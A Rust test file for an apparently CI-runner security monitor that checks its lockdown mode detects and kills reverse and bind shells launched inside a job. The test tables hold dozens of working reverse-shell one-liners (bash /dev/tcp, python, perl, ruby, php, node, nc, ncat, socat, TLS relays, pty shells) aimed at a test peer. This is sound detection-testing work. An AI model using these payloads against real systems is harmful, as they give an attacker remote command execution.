//! R1–R4: shells whose standard streams lead to another machine, in many ways. Each kills its job, and nearly all of them
//! before a command of the peer is executed.
//!
//! `PORTCULLIS_ATTEMPTS` says how often each is tried; more than once is for measuring (docs/detections.md).
#![expect(
    clippy::print_stdout,
    reason = "the evidence of each variant, for whoever runs the test to see"
)]

mod life;
mod shell_peer;

use anyhow::{Context, Result, ensure};
use life::{Gate, detections};
use portcullis_common::event::{DetectionEvent, DetectionType};
use portcullis_common::policy::LockdownDetection;
use portcullis_tests::world::network::RUNNER_V4;
use portcullis_tests::{Job, JobOutcome, JobResult, World, wait_until};
use shell_peer::{Commands, PEER, Peer, command};
use std::net::{IpAddr, SocketAddr};
use std::thread;

/// Everything is reachable and recorded: the case that the gate does not stop.
const AUDIT: &str = "
name: hello-audit
egress-policy: audit
lockdown-mode:
  enabled: true
  detections: [Reverse-Shell]
attach:
  - repository: octo/hello
";

/// Whether a command of the peer may be executed before the job is killed.
#[derive(Clone, Copy, Eq, PartialEq)]
enum FirstCommand {
    /// The shell is stopped when it has read it.
    Stopped,
    /// It can't be told from an ordinary program before it has done something.
    MayRun,
}

/// How often each variant is tried.
fn attempts() -> u32 {
    std::env::var("PORTCULLIS_ATTEMPTS").ok().and_then(|text| text.parse().ok()).unwrap_or(1)
}

fn reverse_shells(result: &[portcullis_common::event::Event]) -> Vec<DetectionEvent> {
    detections(result)
        .filter(|found| found.detection == DetectionType::Lockdown(LockdownDetection::ReverseShell))
        .cloned()
        .collect()
}

/// Runs each script as a job of its own, which must be killed for it.
fn assert_killed(first: FirstCommand, variants: &[(&str, &str)]) -> Result<()> {
    let gate = Gate::up(World::builder().build()?, &[("audit", AUDIT)])?;
    let peer = Peer::listen(&gate.world)?;
    let mut failures = Vec::new();
    for (name, script) in variants {
        let mut run_of = 0;
        for attempt in 1..=attempts() {
            peer.commands.forget();
            let (result, found) = run(&gate, script)?;
            let executed = peer.commands.executed();
            run_of += u32::from(executed > 0);
            match check(&result, &found) {
                Ok(evidence) if attempt == 1 => println!("{name}: {executed} executed; {evidence}"),
                Ok(_) => {}
                Err(error) => failures.push(format!("{name}: {error:#}")),
            }
        }
        println!("{name}: a command was executed in {run_of} of {} attempts", attempts());
        if first == FirstCommand::Stopped && run_of * 100 > attempts() {
            failures.push(format!("{name}: a command was executed in {run_of} attempts"));
        }
    }
    ensure!(failures.is_empty(), "{}\n{}", failures.join("\n"), gate.monitor.log());
    Ok(())
}

fn run(gate: &Gate, script: &str) -> Result<(JobResult, Vec<DetectionEvent>)> {
    // Long enough for a peer's first commands and for looks at them; a killed job does not wait for it.
    let job = format!(
        "set +e; cd \"$RUNNER_TEMP\"; export P={PEER}\n(\n{script}\n) <&0 &\nsleep 15\ntrue"
    );
    let result = gate.run(&gate.job(&job))?;
    let found = reverse_shells(&gate.last_events()?);
    Ok((result, found))
}

fn check(result: &JobResult, found: &[DetectionEvent]) -> Result<String> {
    let first = found.first().with_context(|| format!("not detected; {}", result.log()))?;
    ensure!(first.is_lockdown, "{first:?}");
    ensure!(
        first.evidence.contains(&PEER.to_string()) || first.evidence.contains("203.0.113.66"),
        "{first:?}"
    );
    let process = first.process.as_ref().context("no process")?;
    ensure!(process.exe.is_some() && !process.argv.is_empty(), "{process:?}");
    ensure!(
        process.ancestors.iter().any(|above| above.exe.ends_with("Runner.Worker"))
            || process.ancestors.len() <= 2,
        "{process:?}"
    );
    ensure!(result.outcome == JobOutcome::Failure, "{:?}", result.outcome);
    ensure!(result.worker_exit_code == 128 + 9, "exit code {}", result.worker_exit_code);
    let told = result.annotations.iter().any(|annotation| {
        annotation.message.contains("Reverse-Shell") && annotation.message.contains("hello-audit")
    });
    ensure!(told, "the job's page does not say why: {:?}", result.annotations);
    Ok(first.evidence.clone())
}

#[test]
fn streams_on_the_connection_itself() -> Result<()> {
    assert_killed(
        FirstCommand::Stopped,
        &[
            ("bash -i with /dev/tcp", "bash -i >& /dev/tcp/$P/4444 0>&1"),
            (
                "nothing in argv",
                "cat >quiet <<'END'\nexec 0<>/dev/tcp/$P/4444 1>&0 2>&0\nexec sh\nEND\nbash quiet",
            ),
            (
                "sh on another descriptor first",
                "bash -c 'exec 196<>/dev/tcp/$P/4444; sh <&196 >&196 2>&196'",
            ),
            (
                "daemonised",
                "setsid --fork nohup bash -c 'bash >& /dev/tcp/$P/4444 0>&1' >/dev/null 2>&1",
            ),
            ("datagrams", "bash -c 'exec 0<>/dev/udp/$P/4444; exec sh -i >&0 2>&0'"),
            (
                "python",
                "python3 -c 'import os,socket,subprocess\ns=socket.create_connection((os.environ[\"P\"],4444))\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\nsubprocess.call([\"/bin/sh\",\"-i\"])'",
            ),
            (
                "perl",
                "perl -e 'use Socket; socket(S,PF_INET,SOCK_STREAM,6); connect(S,sockaddr_in(4444,inet_aton($ENV{P}))); open(STDIN,\"<&S\"); open(STDOUT,\">&S\"); open(STDERR,\">&S\"); exec(\"/bin/sh\")'",
            ),
            (
                "ruby",
                "ruby -rsocket -e 's=TCPSocket.new(ENV[\"P\"],4444); exec(\"/bin/sh\", in: s, out: s, err: s)'",
            ),
            (
                "php",
                "php -r '$s=fsockopen(getenv(\"P\"),4444); proc_close(proc_open(\"exec /bin/sh\", [0=>$s,1=>$s,2=>$s], $p));'",
            ),
            (
                "tcl",
                "echo 'set s [socket $env(P) 4444]; exec sh <@$s >@$s 2>@$s' >t.tcl; tclsh t.tcl",
            ),
            (
                "node with the socket as stdio",
                "node -e 'const s=require(\"net\").connect(4444,process.env.P,()=>require(\"child_process\").spawn(\"/bin/sh\",[],{stdio:[s,s,s]}))'",
            ),
            ("nc -e", "nc.traditional -e /bin/sh $P 4444"),
            (
                "a shell under another name",
                "cp /bin/bash compile; bash -c 'exec ./compile 0<>/dev/tcp/$P/4444 >&0 2>&0'",
            ),
        ],
    )
}

#[test]
fn relays_with_pipes() -> Result<()> {
    assert_killed(
        FirstCommand::Stopped,
        &[
            ("mkfifo and nc", "mkfifo f; sh -i <f 2>&1 | nc $P 4444 >f"),
            (
                "mkfifo and nc under another name",
                "cp \"$(readlink -f /bin/nc)\" link; mkfifo f; sh <f 2>&1 | ./link $P 4444 >f",
            ),
            ("mkfifo and telnet", "mkfifo f; sh -i <f 2>&1 | telnet $P 4444 >f"),
            (
                "mkfifo and openssl",
                "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect $P:4445 >f 2>/dev/null",
            ),
            ("two connections", "nc $P 4444 | sh 2>&1 | nc $P 5555"),
            ("filters in between", "mkfifo f; cat f | sh 2>&1 | tee log | nc $P 4444 >f"),
            ("ncat -e", "ncat -e /bin/sh $P 4444"),
            ("ncat --sh-exec", "ncat --sh-exec 'exec bash' $P 4444"),
            ("socat with a socket pair", "socat TCP:$P:4444 EXEC:/bin/sh,stderr"),
            ("socat with pipes", "socat TCP:$P:4444 EXEC:/bin/sh,pipes,stderr"),
            (
                "over loopback",
                "socat TCP-LISTEN:7777,bind=127.0.0.1,reuseaddr TCP:$P:4444 & until bash -c 'exec 0<>/dev/tcp/127.0.0.1/7777 >&0 2>&0 || exit 1; exec sh'; do sleep 0.1; done",
            ),
        ],
    )
}

/// What another process of the job lets go on can execute something before it is stopped again.
#[test]
fn somebody_who_wakes_a_stopped_shell() -> Result<()> {
    assert_killed(
        FirstCommand::MayRun,
        &[(
            "somebody who wakes it",
            "bash -c 'while kill -CONT 0; do :; done' 2>/dev/null & bash -i >& /dev/tcp/$P/4444 0>&1",
        )],
    )
}

/// The shell holds its connection beside its streams, and its output is there only while it executes a command.
#[test]
fn loops_of_the_shells_own() -> Result<()> {
    assert_killed(
        FirstCommand::Stopped,
        &[
            (
                "a loop of the shell's own",
                "bash -c 'exec 5<>/dev/tcp/$P/4444; cat <&5 | while read line; do eval \"$line\" >&5 2>&5; done'",
            ),
            (
                "a loop that reads by itself",
                "bash -c 'exec 5<>/dev/tcp/$P/4444; while read -r line <&5; do eval \"$line\" >&5 2>&5; done'",
            ),
            (
                "a loop that keeps its errors to itself",
                "bash -c 'exec 5<>/dev/tcp/$P/4444; while read -r line <&5; do eval \"$line\" >&5; done'",
            ),
        ],
    )
}

/// What the shell is given is not what the connection received: the relay sees through its encryption.
#[test]
fn relays_with_encryption_of_their_own() -> Result<()> {
    assert_killed(
        FirstCommand::Stopped,
        &[
            (
                "node with TLS",
                "node -e 'const s=require(\"tls\").connect({host:process.env.P,port:4445,rejectUnauthorized:false},()=>{const h=require(\"child_process\").spawn(\"/bin/sh\"); s.pipe(h.stdin); h.stdout.pipe(s); h.stderr.pipe(s)})'",
            ),
            (
                "ruby with TLS",
                "ruby -rsocket -ropenssl -ropen3 -e 's=OpenSSL::SSL::SSLSocket.new(TCPSocket.new(ENV[\"P\"],4445)); s.connect; i,o=Open3.popen2e(\"/bin/sh\"); Thread.new{loop{s.write(o.readpartial(4096))}}; loop{i.write(s.readpartial(4096)); i.flush}'",
            ),
            (
                "a relay of one's own with TLS",
                "python3 -c 'import os,socket,ssl,subprocess,threading\nc=ssl.create_default_context(); c.check_hostname=False; c.verify_mode=ssl.CERT_NONE\ns=c.wrap_socket(socket.create_connection((os.environ[\"P\"],4445)))\np=subprocess.Popen([\"/bin/sh\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)\ndef out():\n  while True: s.sendall(p.stdout.read(4096) or exit())\nthreading.Thread(target=out,daemon=True).start()\nwhile True: p.stdin.write(s.recv(4096) or exit())'",
            ),
        ],
    )
}

#[test]
fn programs_that_move_data_by_themselves() -> Result<()> {
    assert_killed(
        FirstCommand::Stopped,
        &[
            (
                "node",
                "node -e 'const s=require(\"net\").connect(4444,process.env.P,()=>{const h=require(\"child_process\").spawn(\"/bin/sh\"); s.pipe(h.stdin); h.stdout.pipe(s); h.stderr.pipe(s)})'",
            ),
            (
                "python",
                "python3 -c 'import os,socket,subprocess,threading\ns=socket.create_connection((os.environ[\"P\"],4444))\np=subprocess.Popen([\"/bin/sh\"],stdin=subprocess.PIPE,stdout=subprocess.PIPE,stderr=subprocess.STDOUT,bufsize=0)\ndef out():\n  while True: s.sendall(p.stdout.read(4096) or exit())\nthreading.Thread(target=out,daemon=True).start()\nwhile True: p.stdin.write(s.recv(4096) or exit())'",
            ),
            (
                "php",
                "php -r '$s=fsockopen(getenv(\"P\"),4444); $h=proc_open(\"exec /bin/sh\",[[\"pipe\",\"r\"],[\"pipe\",\"w\"],[\"pipe\",\"w\"]],$p); foreach([$s,$p[1],$p[2]] as $x) stream_set_blocking($x,false); while(!feof($s)){ $r=[$s,$p[1],$p[2]]; $w=$e=null; stream_select($r,$w,$e,null); foreach($r as $x){ $d=fread($x,4096); if($x===$s) fwrite($p[0],$d); else fwrite($s,$d);} }'",
            ),
            (
                "perl",
                "perl -MIPC::Open2 -MIO::Socket::INET -MIO::Select -e '$s=IO::Socket::INET->new(\"$ENV{P}:4444\"); open2($o,$i,\"/bin/sh\"); $l=IO::Select->new($s,$o); while(@r=$l->can_read){ for(@r){ sysread($_,$d,4096) or exit; syswrite($_==$s ? $i : $s, $d) } }'",
            ),
        ],
    )
}

#[test]
fn terminals() -> Result<()> {
    assert_killed(
        FirstCommand::Stopped,
        &[
            (
                "socat with a terminal",
                "socat TCP:$P:4444 EXEC:/bin/sh,pty,stderr,setsid,sigint,sane",
            ),
            (
                "python's pty.spawn",
                "python3 -c 'import os,pty,socket\ns=socket.create_connection((os.environ[\"P\"],4444))\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\npty.spawn(\"/bin/sh\")'",
            ),
            (
                "script and a fifo",
                "mkfifo f; script -qfc 'bash -i' /dev/null <f 2>&1 | nc $P 4444 >f",
            ),
            (
                "a relay of one's own with a terminal",
                "python3 -c 'import os,pty,select,socket\ns=socket.create_connection((os.environ[\"P\"],4444))\npid,m=pty.fork()\nif pid==0: os.execv(\"/bin/sh\",[\"sh\"])\nwhile True:\n  for r in select.select([s,m],[],[])[0]:\n    d=os.read(r.fileno() if r is s else r,4096)\n    if not d: exit()\n    os.write(m if r is s else s.fileno(),d)'",
            ),
        ],
    )
}

/// The peer connects to the job.
#[test]
fn shells_on_a_listening_port() -> Result<()> {
    let variants = [
        ("nc", "nc.traditional -l -p 6001 -e /bin/sh"),
        ("ncat", "ncat -l 6002 -e /bin/sh"),
        ("socat with a terminal", "socat TCP-LISTEN:6003,reuseaddr EXEC:bash,pty,stderr,setsid"),
        (
            "python",
            "python3 -c 'import os,socket\nl=socket.create_server((\"\",6004))\ns=l.accept()[0]\n[os.dup2(s.fileno(),n) for n in (0,1,2)]\nos.execv(\"/bin/sh\",[\"sh\"])'",
        ),
        ("mkfifo and nc", "mkfifo f; sh <f 2>&1 | nc -l 6005 >f"),
    ];
    let gate = Gate::up(World::builder().build()?, &[("audit", AUDIT)])?;
    let commands = Commands::new(&gate.world)?;
    for (port, (name, script)) in (6001..).zip(variants) {
        for _ in 0..attempts() {
            commands.forget();
            let address = SocketAddr::new(IpAddr::V4(RUNNER_V4), port);
            let (result, found) = thread::scope(|scope| -> Result<_> {
                let caller = scope.spawn(|| -> Result<()> {
                    let mut connected = None;
                    wait_until("the shell listens", || {
                        connected = gate.world.attacker().connect(address).ok();
                        connected.is_some()
                    })?;
                    command(&connected.context("not connected")?, &commands);
                    Ok(())
                });
                let run = run(&gate, script)?;
                caller.join().expect("no panic").with_context(|| name)?;
                Ok(run)
            })?;
            let evidence = check(&result, &found)
                .with_context(|| format!("{name}\n{}", gate.monitor.log()))?;
            println!("{name}: {evidence}");
            ensure!(
                commands.executed() == 0,
                "{name}: a command was executed\n{}",
                gate.monitor.log()
            );
        }
    }
    Ok(())
}

/// The attacks are real: with nobody there the peer's commands are executed.
#[test]
fn without_a_gate_commands_are_executed() -> Result<()> {
    let world = World::builder().build()?;
    let peer = Peer::listen(&world)?;
    for script in [
        "bash -i >& /dev/tcp/$P/4444 0>&1",
        "mkfifo f; sh <f 2>&1 | nc $P 4444 >f",
        "socat TCP:$P:4444 EXEC:/bin/sh,pty,stderr,setsid,sigint,sane",
    ] {
        peer.commands.forget();
        let job = format!(
            "set +e; cd \"$RUNNER_TEMP\"; rm -f f; export P={PEER}\n(\n{script}\n) <&0 &\nfor n in $(seq 100); do [ -s {} ] && break; sleep 0.1; done; pkill -9 -P $$; true",
            peer.commands.marker.display()
        );
        world.runner(0).run(&Job::script(&job))?;
        ensure!(peer.commands.executed() > 0, "{script}");
    }
    Ok(())
}
